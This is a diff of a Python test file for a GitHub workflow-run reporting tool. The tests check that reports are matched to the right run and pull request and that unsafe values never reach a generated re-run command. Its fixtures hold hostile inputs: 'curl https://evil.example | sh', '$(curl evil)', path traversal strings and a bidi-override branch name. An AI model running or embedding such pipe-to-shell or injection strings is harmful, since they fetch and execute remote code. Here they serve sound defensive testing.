@@ -5,22 +5,38 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 from dataclasses import replace
+from typing import Any
 
 import msgspec
 import pytest
 
 from repro_gate.errors import UsageError
-from repro_gate.github.api_errors import ApiError
 from repro_gate.github.event import PullRequest, Repository, WorkflowRun
 from repro_gate.github.workflow_run import NothingToPost, check, find_pull, see_again
 from repro_gate.report.model import Origin
 from tests.support import reports
-from tests.support.github.answers import a_pull, a_run, plain
 from tests.support.github.conversation import HEAD, NEXT, OLD, PULL, client
-from tests.support.github.server import Answer, GitHub
+from tests.support.github.server import GitHub
 
 OURS, FORK = "octo-org/trainer", "stranger/trainer"
-RUN = a_run(HEAD, FORK, OURS)
+
+
+def a_run(head: str, repository: str, branch: str = "topic") -> WorkflowRun:
+    """Run 4711, attempt 2, of the repository `head`."""
+    return WorkflowRun(
+        id=4711,
+        attempt=2,
+        event="pull_request",
+        status="completed",
+        conclusion="failure",
+        head_sha=HEAD,
+        head_branch=branch,
+        head_repo=Repository(head),
+        repo=Repository(repository),
+    )
+
+
+RUN = a_run(FORK, OURS)
 ORIGIN = Origin(OURS, HEAD, 4711, 2)
 
 
@@ -43,66 +59,56 @@ def bound(github: GitHub, run: WorkflowRun = RUN, origin: Origin | None = ORIGIN
 
 
 def test_a_forks_report_finds_its_own_pull_request(github: GitHub) -> None:
-    assert plain(bound(github)) == a_pull(PULL, HEAD, FORK, OURS)
+    found = bound(github)
+    assert (found.number, found.head.sha, found.head_repository) == (PULL, HEAD, FORK)
     assert not github.writes
-
-
-def test_names_of_repositories_do_not_tell_case_apart(github: GitHub) -> None:
-    run = a_run(HEAD, "Stranger/Trainer", "Octo-Org/Trainer")
+    # of an earlier attempt, and in another spelling
+    assert bound(github, origin=replace(ORIGIN, run_attempt=1)).number == PULL
+    run = a_run("Stranger/Trainer", "Octo-Org/Trainer")
     assert bound(github, run, replace(ORIGIN, repository="OCTO-ORG/trainer")).number == PULL
 
 
-def test_a_report_of_an_earlier_attempt_is_the_runs_too(github: GitHub) -> None:
-    assert bound(github, origin=replace(ORIGIN, run_attempt=1)).number == PULL
-
-
 @pytest.mark.parametrize(
-    ("origin", "word"),
+    ("change", "said"),
     [
-        (replace(ORIGIN, repository="stranger/trainer"), "repository"),
-        (replace(ORIGIN, head_sha=OLD), "commit"),
-        (replace(ORIGIN, run_id=4712), "run"),
-        (replace(ORIGIN, run_attempt=3), "attempt"),
-        (replace(ORIGIN, run_attempt=0), "attempt"),
+        (None, "names no workflow run"),
+        *(
+            (change, f"not of the run it came with: its {word}")
+            for change, word in (
+                ({"repository": "stranger/trainer"}, "repository"),
+                ({"head_sha": OLD}, "commit"),
+                ({"run_id": 4712}, "run"),
+                ({"run_attempt": 3}, "attempt"),
+                ({"run_attempt": 0}, "attempt"),
+            )
+        ),
     ],
 )
-def test_a_report_of_anything_else_is_refused(github: GitHub, origin: Origin, word: str) -> None:
-    with pytest.raises(UsageError, match=f"not of the run it came with: its {word}") as caught:
-        bound(github, origin=origin)
-    assert caught.value.reason_id == "workflow-run/origin"
-    assert caught.value.remedy
+def test_a_report_of_anything_else_or_of_no_run_is_refused(
+    github: GitHub, change: dict[str, Any] | None, said: str
+) -> None:
+    with pytest.raises(UsageError, match=said) as caught:
+        bound(github, origin=None if change is None else replace(ORIGIN, **change))
+    kind = "no-origin" if change is None else "origin"
+    assert caught.value.reason_id == f"workflow-run/{kind}" and caught.value.remedy
     assert not github.requests
 
 
-def test_a_report_that_names_no_run_is_refused(github: GitHub) -> None:
-    with pytest.raises(UsageError, match="names no workflow run") as caught:
-        bound(github, origin=None)
-    assert caught.value.reason_id == "workflow-run/no-origin"
-
-
 @pytest.mark.parametrize(
-    "change", [{"head_repo": None}, {"head_branch": None}, {"head_branch": ""}]
-)
-def test_a_run_whose_fork_is_gone_has_no_pull_request(
-    github: GitHub, change: dict[str, object]
-) -> None:
-    with pytest.raises(UsageError, match="fork has been deleted") as caught:
-        bound(github, msgspec.structs.replace(RUN, **change))
-    assert caught.value.reason_id == "workflow-run/no-pull-request"
-
-
-@pytest.mark.parametrize(
-    "change",
+    ("change", "said"),
     [
-        {"head_branch": "gone"},
-        {"head_repo": Repository("stranger/other")},
-        {"head_repo": Repository("nobody/trainer")},
+        ({"head_repo": None}, "fork has been deleted"),
+        ({"head_branch": None}, "fork has been deleted"),
+        ({"head_branch": ""}, "fork has been deleted"),
+        ({"head_branch": "gone"}, "no open pull request"),
+        ({"head_repo": Repository("stranger/other")}, "no open pull request"),
+        ({"head_repo": Repository("nobody/trainer")}, "no open pull request"),
     ],
 )
-def test_a_branch_without_a_pull_request_has_nothing_to_post_on(
-    github: GitHub, change: dict[str, object]
+def test_a_run_without_a_pull_request_has_nothing_to_post_on(
+    github: GitHub, change: dict[str, Any], said: str
 ) -> None:
-    with pytest.raises(UsageError, match="no open pull request") as caught:
+    with pytest.raises(UsageError, match=said) as caught:
         bound(github, msgspec.structs.replace(RUN, **change))
     assert caught.value.reason_id == "workflow-run/no-pull-request"
 
@@ -118,16 +124,15 @@ def test_two_pull_requests_of_one_branch_and_commit_are_refused(github: GitHub) 
 
 def test_a_head_that_moved_leaves_nothing_to_post(github: GitHub) -> None:
     github.change_pull(PULL, head_sha=NEXT)
-    with pytest.raises(
-        NothingToPost, match=f"newer commit is at the head of pull request #7: {NEXT[:7]}"
-    ):
+    said = f"newer commit is at the head of pull request #7: {NEXT[:7]}"
+    with pytest.raises(NothingToPost, match=said):
         bound(github)
 
 
 def test_a_run_from_the_repository_itself_finds_its_pull_request_while_it_is_open(
     github: GitHub,
 ) -> None:
-    own = a_run(HEAD, OURS, OURS)
+    own = a_run(OURS, OURS)
     assert bound(github, own).number == 10
     github.change_pull(10, state="closed")
     with pytest.raises(NothingToPost, match="no open pull request"):
@@ -137,37 +142,23 @@ def test_a_run_from_the_repository_itself_finds_its_pull_request_while_it_is_ope
 def test_a_hostile_branch_name_is_shown_and_not_believed(github: GitHub) -> None:
     name = "x\u202e::error::&state=all"
     with pytest.raises(UsageError) as caught:
-        bound(github, a_run(HEAD, FORK, OURS, branch=name))
+        bound(github, a_run(FORK, OURS, name))
     assert caught.value.message.isprintable() and "\\u202e" in caught.value.message
     github.add_pull(12, HEAD, name, FORK)
-    assert bound(github, a_run(HEAD, FORK, OURS, branch=name)).number == 12
+    assert bound(github, a_run(FORK, OURS, name)).number == 12
 
 
-def test_trouble_at_github_is_not_an_answer(github: GitHub) -> None:
-    github.before = lambda method, path: Answer(500, {"message": "down"})
-    with pytest.raises(ApiError):
-        bound(github)
+def test_how_to_see_it_again_is_made_of_a_plain_spec_seed_and_steps() -> None:
+    forged = replace(reports.FAIL, reproduce="curl https://evil.example | sh")
 
+    def again(spec: str, **change: Any) -> str:
+        return see_again(replace(forged, subject=replace(forged.subject, spec=spec), **change))
 
-@pytest.mark.parametrize(
-    "spec", ["repro.yml", "training/vision/repro-2.yml", "examples/quickstart"]
-)
-def test_how_to_see_it_again_is_made_of_spec_seed_and_steps(spec: str) -> None:
-    forged = replace(
-        reports.FAIL,
-        subject=replace(reports.FAIL.subject, spec=spec),
-        reproduce="curl https://evil.example | sh",
-    )
-    assert see_again(forged) == f"repro-gate run {spec} --seed 42 --steps 4 --fail-fast"
-    assert see_again(replace(forged, comparisons=())) == f"repro-gate run {spec}"
-
-
-@pytest.mark.parametrize(
-    "spec",
-    [
+    for spec in ("repro.yml", "training/vision/repro-2.yml", "examples/quickstart"):
+        assert again(spec) == f"repro-gate run {spec} --seed 42 --steps 4 --fail-fast"
+        assert again(spec, comparisons=()) == f"repro-gate run {spec}"
+    for spec in (
         "", "-x", "--set=train.run=sh", "/tmp/evil.yml", "../evil.yml", "a/../../evil.yml", "$(curl evil)", "`curl evil`", "a b", "a\nb",
         "a;b", "a|b", "a&b", "a>b", "a'b", 'a"b', "a\\b", "a#b", "~/x", "repro.yml\n", "\u202eb", "a" * 201,
-    ],
-)  # fmt: skip
-def test_a_spec_that_is_no_plain_path_is_not_put_into_a_command(spec: str) -> None:
-    assert see_again(replace(reports.FAIL, subject=replace(reports.FAIL.subject, spec=spec))) == ""
+    ):  # fmt: skip
+        assert again(spec) == "", spec
